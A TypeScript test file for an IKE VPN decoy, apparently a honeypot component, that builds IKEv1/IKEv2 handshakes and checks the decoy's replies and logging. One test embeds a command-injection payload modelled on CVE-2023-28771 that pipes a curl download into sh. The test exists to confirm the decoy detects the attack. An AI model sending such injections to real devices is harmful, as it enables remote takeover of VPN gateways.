import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { needTools } from '../../../test/support/need.ts';
import { serveDecoy } from '../../../test/support/serve-decoy.ts';
import { hexOf, holdsForAnyBytes, personaWith, talk } from '../../../test/support/talk.ts';
import { octets, uint16, uint32 } from '../../wire/big-endian.ts';
import { readIkeMessage, writeIkeMessage, writeProposal, type IkePayload } from '../../wire/ike-message.ts';
import { ike } from './ike.ts';

const run = promisify(execFile);
const gateway = () => personaWith({});
const spi = hexOf('0102030405060708');
const message = (
  version: number,
  exchange: number,
  payloads: readonly IkePayload[],
  flags = version === 0x20 ? 8 : 0,
): Uint8Array =>
  writeIkeMessage(
    { initiator: spi, responder: new Uint8Array(8), version, exchange, flags, id: 0 },
    payloads,
  );
const transform = (text: string) => ({
  kind: 0,
  id: 0,
  attributes: new Map<number, number>(),
  octets: hexOf(text),
});
const attributes = '0101 0000 8001 0007 800e 0100 8002 0002 8003 0001 8004 000e 800b 0001 000c 0004 00007080';
const mainMode = (text = attributes): Uint8Array =>
  message(0x10, 2, [
    {
      type: 1,
      body: octets(uint32(1), uint32(1), writeProposal(1, 1, [transform(text), transform(attributes)])),
    },
    { type: 13, body: hexOf('4a131c81070358455c5728f20e95452f') },
  ]);
const second = (group: number, size: number): Uint8Array =>
  message(0x20, 34, [
    {
      type: 33,
      body: writeProposal(1, 1, [
        transform('0100 000c 800e 0100'),
        transform('0200 0005'),
        transform('0300 000c'),
        transform('0400 000e'),
      ]),
    },
    { type: 34, body: octets(uint16(group), uint16(0), new Uint8Array(size).fill(7)) },
    { type: 40, body: new Uint8Array(32).fill(9) },
    { type: 41, body: octets(hexOf('00004004'), new Uint8Array(20)) },
    { type: 41, body: octets(hexOf('00004005'), new Uint8Array(20)) },
  ]);
const read = (bytes: Uint8Array | undefined) => readIkeMessage(bytes ?? new Uint8Array(0));

describe('the IKE decoy', () => {
  it('chooses a transform in main mode, and refuses what it has not', () => {
    const answer = read(talk(ike, gateway(), [mainMode()]).replies[0]);
    expect(answer?.payloads.map(({ type }) => type)).toEqual([1, 13, 13, 13]);
    const weak = mainMode('0101 0000 8001 0001 8002 0001 8003 0001 8004 0001');
    expect(read(talk(ike, gateway(), [weak]).replies[0])?.exchange).toBe(2);
    const none = message(0x10, 2, [
      {
        type: 1,
        body: octets(
          uint32(1),
          uint32(1),
          writeProposal(1, 1, [transform('0101 0000 8001 0001 8002 0001 8003 0001 8004 0001')]),
        ),
      },
    ]);
    expect(
      Buffer.from(read(talk(ike, gateway(), [none]).replies[0])?.payloads[0]?.body ?? []).toString('hex'),
    ).toBe('000000010100000e');
  });

  it('answers an initial exchange of version 2 with a key, or names the group that it wants', () => {
    expect(
      read(talk(ike, gateway(), [second(14, 256)]).replies[0])?.payloads.map(({ type }) => type),
    ).toEqual([33, 34, 40, 41, 41]);
    expect(
      Buffer.from(read(talk(ike, gateway(), [second(2, 128)]).replies[0])?.payloads[0]?.body ?? []).toString(
        'hex',
      ),
    ).toBe('00000011000e');
    expect(
      read(talk(ike, gateway(), [message(0x30, 34, [{ type: 33, body: new Uint8Array(40) }])]).replies[0])
        ?.payloads[0]?.body[3],
    ).toBe(5);
  });

  it('records who tries a shared key in aggressive mode, and commands in notifications', () => {
    const aggressive = message(0x10, 4, [
      { type: 1, body: octets(uint32(1), uint32(1), writeProposal(1, 1, [transform(attributes)])) },
      { type: 4, body: new Uint8Array(256) },
      { type: 10, body: new Uint8Array(20) },
      { type: 5, body: octets(hexOf('03000000'), 'vpn-users') },
    ]);
    expect(talk(ike, gateway(), [aggressive]).facts).toContainEqual({
      kind: 'auth',
      service: 'ike',
      user: 'vpn-users',
      method: 'other',
      accepted: false,
    });
    const zyxel = message(0x20, 34, [
      { type: 41, body: octets(hexOf('0100000e'), '";bash -c "curl http://203.0.113.4/zy|sh";echo -n "') },
    ]);
    const { facts } = talk(ike, gateway(), [zyxel]);
    expect(facts).toContainEqual(expect.objectContaining({ kind: 'exploit', cves: ['CVE-2023-28771'] }));
    expect(facts.flatMap((fact) => (fact.kind === 'command' ? (fact.urls ?? []) : []))).toEqual([
      'http://203.0.113.4/zy',
    ]);
  });

  it('answers no datagram with a larger one', () => {
    holdsForAnyBytes(ike, gateway, [
      mainMode(),
      second(14, 256),
      second(2, 128),
      octets(0, 0, 0, 0, mainMode()),
      message(0x10, 5, []),
      message(0x10, 2, [], 1),
    ]);
  });

  needTools(['ike-scan'])(
    'is a handshake for ike-scan in main mode, and none in aggressive mode',
    async () => {
      await using served = await serveDecoy(ike, gateway());
      const scan = (...more: string[]) =>
        run('ike-scan', [
          '--sport=0',
          `--dport=${served.port}`,
          '--retry=1',
          '--timeout=1500',
          '-M',
          ...more,
          '127.0.0.1',
        ]);
      const main = await scan('--trans=7/256,2,1,14');
      expect(main.stdout).toContain('Main Mode Handshake returned');
      expect(main.stdout).toContain('Enc=AES');
      expect((await scan('--ikev2')).stdout).toMatch(/1 returned (?:handshake|notify)/);
      const refused = await scan('--trans=1,1,1,1');
      expect(refused.stdout).toContain('NO-PROPOSAL-CHOSEN');
      const aggressive = await scan('--aggressive', '--id=vpn', '--trans=7/256,2,1,14');
      expect(aggressive.stdout).toContain('AUTHENTICATION-FAILED');
      expect(served.facts).toContainEqual({
        kind: 'auth',
        service: 'ike',
        user: 'vpn',
        method: 'other',
        accepted: false,
      });
      expect(served.errors).toEqual([]);
    },
  );
});
